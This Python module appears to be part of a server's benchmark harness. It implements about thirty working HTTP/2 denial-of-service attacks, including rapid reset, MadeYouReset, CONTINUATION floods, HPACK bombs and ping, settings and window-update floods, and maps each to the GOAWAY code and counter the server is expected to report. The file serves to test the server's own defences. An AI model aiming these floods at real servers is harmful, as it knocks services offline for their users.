"""The attacks over HTTP/2: each sends at full speed until its time is over, and says how it was answered.

`H2_ATTACKS` names them all, with the code that ends each rightly (none: served within limits, or ended stream by
stream) and the counter that moves. Those whose point is what is held for them stand in bench/attack/h2_held.
"""

import os
from typing import Final

from bench.attack import h2_held as held
from bench.attack.aim import Attack
from bench.attack.h2_target import BURST, H2Target, Windows, get, numbers, post, same
from headgate.testing import h2_raw as h2
from headgate.testing.h2_raw import RawH2

# --- requests


def rapid_reset(target: H2Target) -> None:
    """Requests given up as soon as they are made (CVE-2023-44487)."""

    def burst(_raw: RawH2, turn: int) -> tuple[bytes, int]:
        streams = numbers(turn, 50)
        return b"".join(get(one, b"/big") + h2.rst_stream(one) for one in streams), 100

    target.storm(burst)


def half_resets(target: H2Target) -> None:
    """One request given up for each that is answered."""

    def burst(raw: RawH2, turn: int) -> tuple[bytes, int]:
        streams = list(numbers(turn, 20))
        pairs = zip(streams[::2], streams[1::2], strict=True)
        octets = b"".join(get(one) + get(other, b"/big") + h2.rst_stream(other) for one, other in pairs)
        raw.send(octets)
        raw.wait(lambda raw: all(one in raw.over for one in streams[::2]) or raw.goaway, 1.0)
        return b"", 30

    target.storm(burst)


def made_you_reset(target: H2Target) -> None:
    """Streams that the server must reset, for five faults in turn (CVE-2025-8671)."""
    faults = (
        lambda one: post(one) + h2.window_update(one, 0),
        lambda one: post(one) + h2.window_update(one, (1 << 31) - 1) * 2,
        lambda one: get(one, b"/big") + h2.data(one, b"x"),
        lambda one: h2.headers(one, h2.request_block(b"/big", b"GET", (b"UPPER", b"case"))),
        lambda one: post(one, b"/big", (b"content-length", b"5")) + h2.data(one, b"x", end=True),
    )

    def burst(_raw: RawH2, turn: int) -> tuple[bytes, int]:
        streams = numbers(turn, 50)
        return b"".join(faults[one // 2 % 5](one) for one in streams), 100

    target.storm(burst)


def refused_streams(target: H2Target) -> None:
    """More streams than there may be, none of which is ever answered."""

    def burst(_raw: RawH2, turn: int) -> tuple[bytes, int]:
        return b"".join(get(one, b"/sink") for one in numbers(turn, 50)), 50

    target.storm(burst)


# --- frames for nothing


def settings(target: H2Target) -> None:
    """SETTINGS, which change windows of all streams."""
    pair = h2.settings((h2.INITIAL_WINDOW_SIZE, 70_000)) + h2.settings((h2.INITIAL_WINDOW_SIZE, 65_535))

    def begin(raw: RawH2) -> None:
        raw.send(*(get(one, b"/sink") for one in range(1, 200, 2)))

    target.storm(same(pair), begin=begin)


def table_flaps(target: H2Target) -> None:
    """SETTINGS that empty the encoder's table and give it back, with a request behind each."""

    def burst(_raw: RawH2, turn: int) -> tuple[bytes, int]:
        sizes = h2.settings((h2.HEADER_TABLE_SIZE, 0)) + h2.settings((h2.HEADER_TABLE_SIZE, 1 << 20))
        return b"".join(sizes + get(one) for one in numbers(turn, 10)), 30

    target.storm(burst)


def pings(target: H2Target) -> None:
    """PING (CVE-2019-9512)."""
    target.storm(same(h2.ping()))


def pings_unread(target: H2Target) -> None:
    """PING, whose answers are read once a second."""
    target.storm(same(h2.ping()), reads_each=1.0)


def acknowledgements(target: H2Target) -> None:
    """Answers that nobody asked for."""
    target.storm(same(h2.ping(flags=h2.ACK) + h2.settings_ack()))


def priorities(target: H2Target) -> None:
    """PRIORITY of streams that are idle (CVE-2019-9513)."""
    target.storm(same(h2.priority(101, 3)))


def priority_updates(target: H2Target) -> None:
    """PRIORITY_UPDATE (RFC 9218)."""
    target.storm(same(h2.priority_update(101) + h2.priority_update(1, b"u=7, i")))


def window_updates(target: H2Target) -> None:
    """WINDOW_UPDATE, an octet each."""
    target.storm(same(h2.window_update(0, 1)))


def dribble(target: H2Target) -> None:
    """A download taken an octet at a time (CVE-2019-9511)."""

    def begin(raw: RawH2) -> None:
        raw.send(get(1, b"/big"))

    target.storm(same(h2.window_update(1, 1)), begin=begin, pairs=((h2.INITIAL_WINDOW_SIZE, 1),))


def unknown_frames(target: H2Target) -> None:
    """Frames of types that nobody knows."""
    target.storm(same(h2.frame(0xF0, 0, 0)))


def goaways(target: H2Target) -> None:
    """GOAWAY, again and again."""
    target.storm(same(h2.frame(h2.GOAWAY, 0, 0, bytes(8))))


def closed_streams(target: H2Target) -> None:
    """Frames of a stream that is over."""

    def begin(raw: RawH2) -> None:
        raw.send(get(1))
        raw.wait(lambda raw: raw.ended(1))

    target.storm(same(h2.window_update(1, 1) + h2.rst_stream(1)), begin=begin)


def empty_data(target: H2Target) -> None:
    """DATA without content (CVE-2019-9518)."""
    target.storm(same(h2.data(1, b"")), begin=lambda raw: raw.send(post(1)))


def empty_headers(target: H2Target) -> None:
    """Requests whose sections begin with a frame without a fragment."""

    def burst(_raw: RawH2, turn: int) -> tuple[bytes, int]:
        block = h2.request_block(b"/hello")
        return b"".join(
            h2.headers(one, b"", last=False) + h2.continuation(one, block, last=True)
            for one in numbers(turn, 50)
        ), 100

    target.storm(burst)


def on_upload(target: H2Target, piece: bytes, weight: int, most: int = 1000) -> None:
    """Send pieces of DATA on stream 1, within its windows."""

    windows: dict[int, Windows] = {}

    def begin(raw: RawH2) -> None:
        windows.clear()
        windows[1] = Windows()
        windows[1].open(1)
        raw.send(post(1, b"/swallow"))

    def burst(raw: RawH2, _turn: int) -> tuple[bytes, int]:
        found = windows[1]
        found.take(raw)
        count = min(max(found.room(1), 0) // weight, most)
        if count == 0:
            raw.pause(0.01)
            return b"", 0
        found.spend(1, count * weight)
        return piece * count, count

    target.storm(burst, begin=begin, keep=True)


def tiny_data(target: H2Target) -> None:
    """DATA of one octet each."""
    on_upload(target, h2.data(1, b"x"), 1)


def padding(target: H2Target) -> None:
    """DATA of 64 octets behind 255 of padding."""
    on_upload(target, h2.data(1, bytes(64), padding=255), 64 + 256)


# --- field sections


def begin_section(raw: RawH2) -> None:
    """Send the first frame of a section; nothing may come between, no acknowledgement either."""
    raw.answers = False
    raw.send(h2.headers(1, b"\x82", last=False))


def continuations(target: H2Target) -> None:
    """A section without an end, in frames of an octet (CVE-2024-27316)."""
    target.storm(same(h2.continuation(1, b"\x82")), begin=begin_section)


def large_continuations(target: H2Target) -> None:
    """A section without an end, in frames as large as may be."""
    target.storm(same(h2.continuation(1, b"\x82" * 16_384)), begin=begin_section)


def hpack_bombs(target: H2Target) -> None:
    """Sections of some KiB that would decode to many MiB, or to many thousand lines, in four forms in turn."""
    forms = (
        h2.remembered(b"bomb", bytes(4000)) + h2.indexed(62) * 450,
        h2.remembered(b"bomb", bytes(4000)) + h2.indexed(62) * 12_000,
        b"\x10\x01a\x01b" * 3200,
        h2.remembered(b"a", b"b") * 3200,
    )

    def burst(_raw: RawH2, turn: int) -> tuple[bytes, int]:
        # The first form is answered with 431 each time; one of the others ends a connection, and the next begins.
        block = h2.request_block(b"/hello") + forms[0 if turn < 20 else 1 + turn % 3]
        return b"".join(h2.headers(one, block) for one in numbers(turn, 4)), 4

    target.storm(burst)


def hpack_thrash(target: H2Target) -> None:
    """Sections that fill the table anew, line by line."""
    noise = os.urandom(1 << 16).hex().encode()

    def burst(_raw: RawH2, turn: int) -> tuple[bytes, int]:
        found = []
        for one in numbers(turn, 8):
            lines = [h2.remembered(b"x-%d" % at, noise[one + at * 64 :][:40]) for at in range(100)]
            found.append(h2.headers(one, h2.request_block(b"/hello") + b"".join(lines)))
        return b"".join(found), 8

    target.storm(burst)


def table_updates(target: H2Target) -> None:
    """Sections that begin with thousands of table sizes."""

    def burst(_raw: RawH2, turn: int) -> tuple[bytes, int]:
        block = (h2.table_size(0) + h2.table_size(4096)) * 3000 + h2.request_block(b"/hello")
        return b"".join(h2.headers(one, block) for one in numbers(turn, 2)), 2

    target.storm(burst)


def long_lists(target: H2Target) -> None:
    """Sections with more lines than may be."""
    lines = b"".join(h2.literal(b"x-%d" % at, b"v") for at in range(400))

    def burst(_raw: RawH2, turn: int) -> tuple[bytes, int]:
        return b"".join(h2.headers(one, h2.request_block(b"/hello") + lines) for one in numbers(turn, 2)), 2

    target.storm(burst)


def garbage(target: H2Target) -> None:
    """Noise instead of frames."""
    noise = os.urandom(BURST)
    target.storm(lambda _raw, _turn: (b"\0\0\0" + noise, 1))


def closed(reason: str) -> str:
    """Return the counter of connections that were closed for a reason."""
    return f'h2_closed_total{{reason="{reason}"}}'


CALM: Final = "GOAWAY 0xb"
GRACEFUL: Final = "GOAWAY 0x0"
HEADS: Final = 'refused_total{limit="head"}'
LATE_HEADS: Final = 'refused_total{limit="head-timeout"}'

H2_ATTACKS: Final[dict[str, Attack]] = {
    "rapid-reset": Attack(rapid_reset, CALM, closed("rapid-reset")),
    "half-resets": Attack(half_resets, CALM, closed("rapid-reset")),
    "made-you-reset": Attack(made_you_reset, CALM, closed("made-you-reset")),
    "refused-streams": Attack(refused_streams, CALM, closed("refused-streams")),
    "settings": Attack(settings, CALM, closed("settings-flood")),
    "table-flaps": Attack(table_flaps, CALM, closed("settings-flood")),
    "pings": Attack(pings, CALM, closed("ping-flood")),
    "pings-unread": Attack(pings_unread, CALM, closed("ping-flood")),
    "acknowledgements": Attack(acknowledgements, CALM, closed("unknown-frames")),
    "priorities": Attack(priorities, CALM, closed("priority-flood")),
    "priority-updates": Attack(priority_updates, CALM, closed("priority-flood")),
    "window-updates": Attack(window_updates, CALM, closed("window-update-flood")),
    "dribble": Attack(dribble, CALM, closed("window-update-flood")),
    "unknown-frames": Attack(unknown_frames, CALM, closed("unknown-frames")),
    "goaways": Attack(goaways, CALM, closed("unknown-frames")),
    "closed-streams": Attack(closed_streams, CALM, closed("closed-streams")),
    "empty-data": Attack(empty_data, CALM, closed("empty-data")),
    "empty-headers": Attack(empty_headers, CALM, closed("empty-headers")),
    "tiny-data": Attack(tiny_data, CALM, closed("tiny-data")),
    "padding": Attack(padding, CALM, closed("padding")),
    "continuations": Attack(continuations, CALM, closed("continuation-flood")),
    "large-continuations": Attack(large_continuations, CALM, closed("continuation-flood")),
    "hpack-bombs": Attack(hpack_bombs, CALM, HEADS),
    "hpack-thrash": Attack(hpack_thrash, GRACEFUL, must=False),
    "table-updates": Attack(table_updates, "GOAWAY 0x9", closed("hpack-decompression")),
    "long-lists": Attack(long_lists, CALM, HEADS, must=False),
    "garbage": Attack(garbage, "GOAWAY 0x6", must=False),
    "zero-windows": Attack(held.zero_windows),
    "slow-reads": Attack(held.slow_reads),
    "unread-uploads": Attack(held.unread_uploads),
    "half-heads": Attack(held.half_heads, GRACEFUL, LATE_HEADS, takes=15.0, must=False),
    "no-preface": Attack(held.no_preface, GRACEFUL, LATE_HEADS, takes=15.0, must=False),
}
